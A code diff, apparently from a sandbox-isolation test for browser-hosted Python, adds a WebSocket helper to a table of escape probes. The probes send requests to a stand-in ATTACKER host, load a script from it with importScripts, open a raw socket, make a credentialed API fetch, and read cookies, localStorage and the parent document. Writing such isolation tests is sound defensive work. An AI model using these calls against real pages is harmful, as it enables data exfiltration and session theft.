@@ -18,6 +18,14 @@ async def answered(url):
     return (await js.fetch(url)).status
 
 
+async def opened(url):
+    socket = js.WebSocket.new(url)
+    while socket.readyState == 0:
+        await asyncio.sleep(0.01)
+    if socket.readyState != 1:
+        raise OSError("closed")
+
+
 tries = {
     "pyfetch": lambda: pyfetch(ATTACKER + "/pyfetch"),
     "pyfetch-api": lambda: pyfetch(SITE + "/api/rooms", credentials="include"),
@@ -27,7 +35,7 @@ tries = {
     "socket": lambda: socket.create_connection(("127.0.0.1", int(ATTACKER.rsplit(":")[-1])), timeout=1).send(b"GET /socket HTTP/1.0\r\n\r\n"),
     "js.fetch": lambda: answered(ATTACKER + "/js.fetch"),
     "js.importScripts": lambda: js.importScripts(ATTACKER + "/js.importScripts"),
-    "js.WebSocket": lambda: js.WebSocket.new(ATTACKER.replace("http", "ws") + "/js.WebSocket").send("x"),
+    "js.WebSocket": lambda: opened(ATTACKER.replace("http", "ws") + "/js.WebSocket"),
     "js.document": lambda: js.document.cookie,
     "js.localStorage": lambda: js.localStorage.getItem("x"),
     "js.parent": lambda: js.parent.document,
